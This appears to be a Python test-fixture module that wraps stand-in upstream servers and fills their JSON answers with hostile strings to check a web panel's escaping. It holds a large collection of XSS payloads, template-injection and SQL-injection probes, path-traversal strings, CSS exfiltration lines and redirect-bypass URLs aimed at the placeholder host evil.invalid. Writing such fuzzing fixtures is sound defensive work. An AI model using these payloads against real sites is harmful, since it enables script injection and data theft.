"""What an upstream may send to do harm in a browser: 300 texts and 60 addresses, and an upstream that sends them."""

from __future__ import annotations

import html
import itertools
import json
from collections import defaultdict
from collections.abc import Callable, Iterable
from typing import Any

from werkzeug.wrappers import Request, Response

from panel.sandbox.standin import Wsgi

EVIL = "evil.invalid"

# Each calls `canary`, reaches for EVIL, or makes an element that would; `canary` is what a test listens to.
VECTORS = [
    "<script>canary()</script>", f"<script src=//{EVIL}/a.js></script>", "<ScRiPt >canary()</sCrIpT >",
    "<script/x>canary()//", "<scr<script>ipt>canary()</script>", "<img src=x onerror=canary()>",
    f"<img src=//{EVIL}/b.png>", "<img/src/onerror=canary()>", '<img src="x" onerror="canary()" x="',
    "<image src=x onerror=canary()>", f"<picture><source srcset=//{EVIL}/c><img></picture>", "<svg onload=canary()>",
    "<svg/onload=canary()//", "<svg><script>canary()</script></svg>", "<svg><script href=data:,canary() />",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:canary()><text y=9>x</a></svg>",
    f"<svg><image href=//{EVIL}/d></svg>", "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=canary()>'>", "<math href=javascript:canary()>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>",
    "<math><mi//xlink:href='data:x,<script>canary()</script>'>", "<body onload=canary()>", "<html onclick=canary()>",
    "<iframe src=javascript:canary()></iframe>", "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    f"<iframe src=//{EVIL}/e></iframe>", "<object data=javascript:canary()></object>", f"<embed src=//{EVIL}/f>",
    f"<base href=//{EVIL}/>", f'<meta http-equiv=refresh content="0;url=//{EVIL}/">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<link rel=stylesheet href=//{EVIL}/g.css>", f"<link rel=prefetch href=//{EVIL}/h>", f"<link rel=preconnect href=//{EVIL}>",
    f"<style>@import '//{EVIL}/i.css';</style>", f"<style>*{{background:url(//{EVIL}/j)}}</style>",
    f"<style>input[value^=a]{{background:url(//{EVIL}/k)}}</style>", f"<p style=background:url(//{EVIL}/l)>x",
    f"<form action=//{EVIL}/><input name=token><button>Sign in</button></form>", "<input autofocus onfocus=canary()>",
    f"<input type=image src=//{EVIL}/m onerror=canary()>", "<button formaction=javascript:canary()>x</button>",
    "</form><form id=x></form><button form=x formaction=javascript:canary()>x", "<details open ontoggle=canary()>x</details>",
    "<video><source onerror=canary()></video>", f"<video poster=//{EVIL}/n></video>", f"<audio src=//{EVIL}/o autoplay></audio>",
    "<select autofocus onfocus=canary()>", "<marquee onstart=canary()>x</marquee>", "<a href=javascript:canary()>x</a>",
    f"<a href=//{EVIL}/ ping=//{EVIL}/p>x</a>", "<area href=javascript:canary()>", f"<table background=//{EVIL}/q>",
    f"<div hx-get=//{EVIL}/r hx-trigger=load>x</div>", '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
    "<div hx-on::load=canary()>x</div>", "<div hx-on:click=canary()>x</div>", "<div data-hx-get='/admin/' data-hx-trigger=load>x</div>",
    '<div hx-post="/admin/sign-out" hx-trigger="load">x</div>', "<div hx-get='/' hx-trigger='load[canary()]'>x</div>",
    "<div hx-get='/' hx-vals='js:{x:canary()}' hx-trigger=load>x</div>", '<div id="lp-body" hx-swap-oob="true">gone</div>',
    '<hx-partial hx-target="body">gone</hx-partial>', "<template shadowrootmode=open><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>", "<!--<img src='--><img src=x onerror=canary()//'>",
    "<![CDATA[<script>canary()</script>]]>", "<?xml-stylesheet href='javascript:canary()'?>", "<xmp><img src=x onerror=canary()></xmp>",
    "<plaintext>x", "<frameset onload=canary()>", "<x onclick=canary() tabindex=1 autofocus onfocus=canary()>x", "<portal src=javascript:canary()>",
]  # fmt: skip

BREAKS = ["", '">', "'></title></textarea></script>"]
"""What would leave the place that a text stands in."""

PLAIN = [
    '" onmouseover="canary()" x="', "' onfocus='canary()' autofocus '", '"autofocus onfocus=canary() "', "` onload=canary() `",
    '" hx-get="/admin/" hx-trigger="load" x="', '" style="position:fixed;inset:0" x="', "x' y=\"z\" <", "</option></select>x",
    "{{7*7}}", "{{ config }}", "{% include 'admin/base.html' %}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('canary()')()}}", "{{{x}}}", "[[canary()]]", "%(x)s {0} {x!r}", "$(canary)",
    "&lt;img src=x onerror=canary()&gt;", "&#60;script&#62;canary()&#60;/script&#62;", "&amp;lt;script&amp;gt;", "&#x3c;b&#x3e;",
    "&nbsp;&copy;&notit;&#0;&#xD800;", "%3Cscript%3Ecanary()%3C/script%3E", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "＜script＞canary()＜/script＞", "\u2039script\u203acanary()", "\u00bcscript\u00becanary()", "+ADw-script+AD4-canary()",
    "javascript:canary()", f"//{EVIL}/", f"https://{EVIL}/ is not a link", "\u202egpj.exe", "\u2066abc\u2069\u202a\u202b\u202d",
    "a\u200bb\u200cc\u200dd\ufeffe", "\u200e\u200f\u061c", "Z̸̛͎a̷͙͝l̵̰̑g̶̙̈́o̴͚͌" * 8, "👨‍👩‍👧‍👦🏳️‍🌈", "سلام <b>دنیا</b>", "\x00<b>x</b>\x00",
    "a\x00b", "<scr\x00ipt>canary()</scr\x00ipt>", "\x1b[31mred\x1b[0m", "a\r\nb\nc\td\x0be\x0cf\x85g\u2028h\u2029i", "\x7f\x80\x9f",
    "\ud800 half of a letter \udfff", "=cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "../../../etc/passwd", "C:\\a\\b", "a" * 900, "W" * 400,
    "<" * 300, '"' * 300, "</" * 300, "&" * 300, "x " * 400, "\U0001d4b3" * 300, "\u0301" * 50 + "x", "null", "None", "0", "true",
    "[object Object]", "__proto__", "constructor", "'; DROP TABLE link; --", "# heading *bold* [x](javascript:canary())",
    "**[x](//evil.invalid)**", "{{html}}<script>canary()</script>{{/html}}", "[[x>>javascript:canary()]]",
    "<b>bold</b> & <i>it</i>", "a < b > c", "1 && 2 || 3", "O'Brien \"the\" boss", "naïve café – “quoted” …",
]  # fmt: skip

TEXTS = list(dict.fromkeys([*PLAIN, *(before + vector for before, vector in itertools.product(BREAKS, VECTORS))]))


def urls(origin: str) -> list[str]:
    """Addresses that lead elsewhere, or to a script; ``origin`` is the one that they pretend to be of."""
    host = origin.partition("//")[2]
    scripts = [
        "javascript:canary()", "JaVaScRiPt:canary()", " javascript:canary()", "\tjavascript:canary()", "java\tscript:canary()",
        "java\nscript:canary()", "java\r\nscript:canary()", "javascript\t:canary()", "javascript\n:canary()", "\x01javascript:canary()",
        "\x00javascript:canary()", "javascript://%0acanary()", "javascript:/*--></title>*/canary()", "javascript&colon;canary()",
        "&#106;avascript:canary()", "%6aavascript:canary()", "vbscript:canary()", "data:text/html,<script>canary()</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=canary()>", "blob:null/x",
        "filesystem:x", "livescript:canary()", "jar:x!/y", "view-source:x", "about:blank", "file:///etc/passwd", "ftp://x/", "mailto:a@b",
        f"javascript:canary()//{origin}/api/v3/work_packages/1", f"javascript:canary()//{host}", "ms-word:ofe|u|x", "feed:javascript:canary()",
    ]  # fmt: skip
    others = [
        f"//{EVIL}/", f"///{EVIL}/", f"\\\\{EVIL}\\", f"/\\{EVIL}/", f"https://{EVIL}/", f"http:{EVIL}", f"https:/{EVIL}/", f"HTTP://{EVIL}/",
        f"{origin}@{EVIL}/", f"http://{host}@{EVIL}/", f"http://{EVIL}#@{host}/", f"http://{EVIL}\\@{host}/", f"http://{EVIL}%2f@{host}/",
        f"{origin}.{EVIL}/", f"http://{EVIL}?{origin}/", f"http://user:pw@{host}/xwiki/", f"{origin}:1/", "http://127.0.0.1:1/",
        "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://evil。invalid/", "http://еvil.invalid/", f"http://{host}。{EVIL}/",
        f"\t//{EVIL}/", f"/\t/{EVIL}/", f"{origin}\\.{EVIL}/", f"https://{host}/", f"{origin}/api/v3/statuses/<b>", f'{origin}/"onclick="canary()',
        f"{origin}/x y", f"{origin}/'onclick='canary()", f"http://[{EVIL}]/", "http://", "http:///", "x" * 5000, "", "#", "?",
    ]  # fmt: skip
    return [*scripts, *others]


TEXT_KEYS = frozenset({
    "subject", "title", "rawTitle", "name", "message", "raw", "html", "displayId", "color", "login", "firstName", "lastName",
    "instanceName", "coreVersion", "value", "label", "content", "author", "authorName", "creator", "creatorName", "modifier",
    "modifierName", "comment", "dueDate", "date", "startDate", "updatedAt", "createdAt", "email", "description", "owner",
})  # fmt: skip
URL_KEYS = frozenset({"href", "xwikiAbsoluteUrl", "xwikiRelativeUrl", "url", "avatar", "identityUrl"})


class Poison:
    """Stands before a stand-in and puts hostile texts or addresses into every answer, a new one into each place.

    What is sent under a key comes in turn, so that as many rows as there are texts show all of them there.
    """

    def __init__(self, inner: Wsgi) -> None:
        self._inner = inner
        self.texts: list[str] = []
        self.urls: list[str] = []
        self.escapes = False
        """Some titles of xWiki are HTML: a text in one is escaped, as the real server does."""
        self.refusal: Callable[[Request], Response | None] = lambda request: None
        self.sent: dict[str, list[str]] = defaultdict(list)
        self._turn: dict[str, int] = defaultdict(int)

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
        environ.pop("HTTP_ACCEPT_ENCODING", None)
        request = Request(environ)
        response = self.refusal(request) or Response.from_app(self._inner, environ, buffered=True)
        if self.texts or self.urls:
            self._spoil(request, response)
        return response(environ, start_response)

    def next_text(self, key: str) -> str:
        self._turn[key] += 1
        text = self.texts[(self._turn[key] - 1) % len(self.texts)]
        self.sent[key].append(text)
        return text

    def _spoil(self, request: Request, response: Response) -> None:
        response.headers.pop("ETag", None)
        if response.mimetype.endswith("json") and response.get_data():
            response.set_data(json.dumps(self._spoiled(json.loads(response.get_data()), "")))
        if "XWiki-User" in response.headers and self.texts:
            name = self.next_text("XWiki-User")
            response.headers["XWiki-User"] = (
                "XWiki.a" + "".join(c for c in name if 31 < ord(c) < 127 and c not in ".:")[:200]
            )

    def _spoiled(self, value: Any, parent: str) -> Any:
        if isinstance(value, list):
            return [self._spoiled(one, parent) for one in value]
        if not isinstance(value, dict):
            return value
        return {key: self._spoiled_member(key, one, parent, value) for key, one in value.items()}

    def _spoiled_member(self, key: str, value: Any, parent: str, around: dict[str, Any]) -> Any:
        if not isinstance(value, str):
            return self._spoiled(value, key)
        if key in URL_KEYS and self.urls:
            self._turn[key] += 1
            self.sent[key].append(self.urls[self._turn[key] % len(self.urls)])
            return self.sent[key][-1]
        if parent == "spaces" and key == "id" and self.texts:
            return f"xwiki:{self.next_text('spaces.id')}"
        if key in TEXT_KEYS and self.texts and value:
            text = self.next_text(f"{parent}.{key}")
            return html.escape(text) if self.escapes and key == "title" and _has_html_title(around, parent) else text
        return value


def _has_html_title(value: dict[str, Any], parent: str) -> bool:
    """Whether xWiki sends the title of this object as HTML: of a page, and of a hit without a score."""
    return "rawTitle" in value or (parent == "searchResults" and not isinstance(value.get("score"), int | float))
